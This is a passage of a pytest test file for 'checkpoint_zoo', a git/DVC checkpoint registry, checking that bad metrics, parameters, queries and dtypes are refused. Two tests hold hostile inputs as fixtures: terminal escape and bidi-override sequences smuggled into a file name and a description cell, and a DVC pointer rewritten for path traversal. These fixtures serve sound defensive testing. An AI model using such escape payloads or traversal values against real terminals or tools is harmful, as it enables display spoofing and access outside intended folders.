    with Zoo(zoo) as z:
        assert z.records()["alpha@10"]["metrics"]["accuracy"] == 0.5  # the control: a good record is read
    body = [good] if make is None else {"model": "alpha", "checkpoints": [make(good)]}
    path.write_text(json.dumps(body))  # json writes NaN and Infinity, which are not JSON
    with Zoo(zoo) as z, pytest.raises(ZooError) as caught:
        z.records()
    text = str(caught.value)
    assert "zoo/metrics/evaluations/alpha.json" in text and names in text and "dvc repro" in text, text
    assert "\n" not in text, text
    if case == "nan-metric":
        refused(zoo, "ls", "--sort=-accuracy", names=("alpha.json", "NaN"))


@pytest.mark.parametrize("section,key,value", [
    ("eval", "max_examples", -5), ("eval", "max_examples", 0), ("eval", "max_examples", [1, 2]),
    ("eval", "max_examples", True), ("run", "batch_size", 0), ("run", "batch_size", "abc"),
    ("run", "batch_size", -1), ("run", "threads", "x"), ("run", "threads", 2.5), ("run", "device", "tpu")])
def test_eval_params_are_checked_on_read(tmp_path, section, key, value):
    import yaml

    from checkpoint_zoo.pipeline import load_params

    params = {"eval": {"max_examples": None}, "run": {"batch_size": 256, "threads": 1, "device": "cpu"},
              "executor": {"kind": "serial"}, "index": {"title": "t"}}
    (tmp_path / "params.yaml").write_text(yaml.safe_dump(params))
    assert load_params(tmp_path)["run"]["batch_size"] == 256  # the control
    params[section][key] = value
    (tmp_path / "params.yaml").write_text(yaml.safe_dump(params))
    with pytest.raises(ZooError, match=rf"params.yaml {section}\.{key}: .* is not "):
        load_params(tmp_path)


@pytest.mark.parametrize("expr", ["step > nan", "step >= -inf", "step==25andarch==mlp", "step == ten",
                                  "arch==mlpandstep==3", "epoch < NaN"])
def test_where_never_silently_matches_nothing(zoo, expr):
    from checkpoint_zoo import Zoo
    from checkpoint_zoo.errors import UsageError

    with Zoo(zoo) as z:
        assert len(z.list(where="step >= 10 and arch == linear")) == 1  # the control (latest of alpha)
        with pytest.raises(UsageError, match="--where"):
            z.list(where=expr)


def test_hostile_revision_is_refused_and_escapes_never_print(zoo, tmp_path):
    name = tmp_path / "in2" / "f\x1b[2Jname\x07.safetensors"
    name.parent.mkdir(parents=True, exist_ok=True)
    name.write_bytes(b"not a checkpoint")
    r = refused(zoo, *add_args(name), names=("\\x1b[2Jname\\x07",))
    assert "\x1b" not in r.err
    escapes = ["\x1b]0;PWNED\x07", "\x1b[2J", "\x9b31m", "\u202eevil", "\x1bP+q\x1b\\"]
    edit_cell(zoo, 2, "description", "ok" + "".join(escapes))
    git("commit", "-qam", "hostile table", cwd=zoo)
    for args in (("diff", "HEAD~1", "HEAD"), ("show", "alpha@10", "--rev", "HEAD"), ("ls", "--rev", "HEAD"),
                 ("versions",)):
        r = zoo_run(zoo, *args)
        shown = r.out + r.err
        assert not any(c in shown for c in "\x1b\x07\x9b\u202e"), (args, shown)
        if args[0] == "diff":
            assert r.code == 1 and "description" in r.err and "control characters" in r.err, r


@pytest.mark.parametrize("dtype", ["F8_E8M0", "F4", "C64", "F6_E2M3"])
def test_unknown_tensor_dtype_names_the_file(zoo, tmp_path, dtype):
    from checkpoint_zoo import Zoo
    from checkpoint_zoo.errors import FormatError

    header = json.dumps({"w": {"dtype": dtype, "shape": [2], "data_offsets": [0, 8]}}).encode()
    src = tmp_path / "in2" / f"{dtype}.safetensors"
    src.parent.mkdir(parents=True, exist_ok=True)
    src.write_bytes(st_bytes(header, b"\0" * 8))
    with Zoo(zoo) as z:
        try:
            z.add(src, model="gamma", step=1, **ADD_KW)
        except FormatError as e:
            assert str(src) in str(e) and "changed rows" not in str(e), e
        else:
            pytest.fail("added a checkpoint of a dtype the zoo cannot load")


def test_pointer_must_track_its_own_folder(clone):
    pointer = clone / "zoo" / "checkpoints" / "alpha.dvc"
    pointer.write_text(pointer.read_text().replace("path: alpha", "path: ../../../outside"))
    r = refused(clone, "pull", "alpha@10", names=("zoo/checkpoints/alpha.dvc", "'alpha'", "git checkout"),
                check_cache=False)
    assert "Did you mean" not in r.err


def test_merge_driver_given_a_directory_says_so(zoo, tmp_path):
    r = zoo_run(zoo, "merge-driver", "table", str(tmp_path), str(tmp_path), str(tmp_path))
    assert r.code == 1 and "Traceback" not in r.err and str(tmp_path) in r.err, r


def test_rm_in_a_clone_without_bytes_names_what_to_pull(clone):
    r = refused(clone, "rm", "alpha@10", names=("alpha@20", "zoo pull alpha@20", "nothing was removed"),
                check_cache=False)
    assert r.out == ""
    assert zoo_run(clone, "pull", "alpha@20").code == 0
    r = zoo_run(clone, "rm", "alpha@10")
    assert r.code == 0, r
